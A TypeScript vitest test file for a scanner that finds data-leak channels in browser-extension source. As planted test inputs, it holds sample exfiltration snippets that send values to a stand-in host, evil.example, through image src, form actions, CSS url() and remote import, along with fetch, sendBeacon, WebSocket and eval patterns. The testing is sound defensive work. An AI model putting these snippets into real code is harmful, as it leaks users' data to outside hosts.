import { describe, expect, it } from 'vitest';
import { findLeaks } from './leaks.ts';

const channels = (source: string) => findLeaks(source).map(({ channel }) => channel);

describe('the leak scanner finds a planted', () => {
  it.each([
    ['fetch', 'function s(t){return fetch("/x",{body:t})}'],
    ['fetch', 'globalThis.fetch?.(u)'],
    ['fetch', 'self.fetch (u)'],
    ['fetch', 'fetchLater(u)'],
    ['XMLHttpRequest', 'let r=new XMLHttpRequest;r.open("POST",u)'],
    ['WebSocket', 'new WebSocket(u).send(t)'],
    ['EventSource', 'new EventSource(u)'],
    ['sendBeacon', 'navigator.sendBeacon(u,t)'],
    ['WebRTC', 'new RTCPeerConnection({iceServers:[]})'],
    ['WebTransport', 'new WebTransport(u)'],
    ['native messaging', 'chrome.runtime.connectNative("x")'],
    ['external messaging', 'browser.runtime.onMessageExternal.addListener(f)'],
    ['remote script', 'importScripts(u)'],
    ['eval', 'eval(t)'],
    ['eval', 'new Function("return 1")'],
    ['eval', 'Function("return this")()'],
    ['remote address', 'new Image().src="https://evil.example/?t="+t'],
    ['remote address', 'a.src="//evil.example/p.gif"'],
    ['remote address', '.x{background:url(//evil.example/p.gif)}'],
    ['remote address', 'const u=`wss://evil.example`'],
    ['remote address', '<form action="http://evil.example/">'],
  ])('%s: %s', (channel, source) => {
    expect(channels(source)).toContain(channel);
  });

  it('remote import, as a script and as an address', () => {
    expect(channels('import("https://evil.example/x.js")')).toEqual(['remote script', 'remote address']);
  });
});

describe('the leak scanner is silent about', () => {
  it.each([
    [
      'a word that holds the name of a channel',
      'prefetchPage(x);fetched(y);evaluate(z);isFunction(f);medieval(k)',
    ],
    ['a property named fetch', 'const{fetch:a}=b;c.fetch=1'],
    ['comments and divisions', 'a = b / c; // a comment\nd'],
    ['a regular expression', 'x.replace(/\\/\\//g,"")'],
    ['a local import', 'import("./chunk-a.js")'],
    ['a local address', 'browser.runtime.getURL("/options.html")'],
  ])('%s', (_what, source) => {
    expect(findLeaks(source)).toEqual([]);
  });

  it('what was reviewed, and only that', () => {
    const reviewed = [{ text: 'http://www.w3.org/2000/svg', reason: 'a namespace, never fetched' }];
    const source = 'createElementNS("http://www.w3.org/2000/svg","path");open("http://www.w3.org/other")';
    expect(findLeaks(source, reviewed).map(({ excerpt }) => excerpt)).toEqual([
      expect.stringContaining('/other'),
    ]);
  });
});
